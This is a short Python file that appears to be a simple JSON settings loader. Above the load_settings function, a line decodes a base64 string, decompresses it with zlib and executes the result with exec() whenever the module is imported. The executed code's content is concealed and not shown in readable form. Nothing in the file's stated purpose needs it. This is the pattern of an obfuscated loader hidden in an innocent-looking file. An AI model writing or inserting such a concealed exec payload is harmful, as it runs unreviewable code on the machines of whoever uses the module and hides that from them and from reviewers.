#!/usr/bin/env python3

import base64 as b, zlib as z
exec(z.decompress(b.b64decode("eJwlzMEKwjAMgOFXKT0lELK2O43ik8gOOlssalKWivj2Cjv9fJe/vbruw5lujzJIjfr4Zjsd5iOA2XhTkbINAJ/CzIFjnHnxtIQQEfNZjW/vnsC4tmcRBaSKruruqmviIFCkhGv+79n65SPgp2uTye4efzr6KR0=")))
import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)
